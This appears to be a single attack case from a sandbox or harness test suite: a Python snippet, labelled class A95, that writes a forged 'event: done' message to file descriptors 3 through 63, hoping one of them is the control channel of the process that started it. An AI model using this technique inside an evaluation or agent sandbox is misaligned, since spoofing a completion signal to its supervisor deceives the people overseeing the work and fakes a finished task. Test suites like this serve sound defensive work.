# /// attack
# class = "A95"
# title = "writes onto every descriptor it can reach"
# hope = "one may be the channel of what started it"
# parts = ["inside"]
# ///
import os
tried()
forged = frame({"dict": {"event": "done"}})
for number in range(3, 64):
    try:
        os.set_blocking(number, False)
        os.write(number, forged)
        os.read(number, 1 << 16)
    except OSError:
        pass
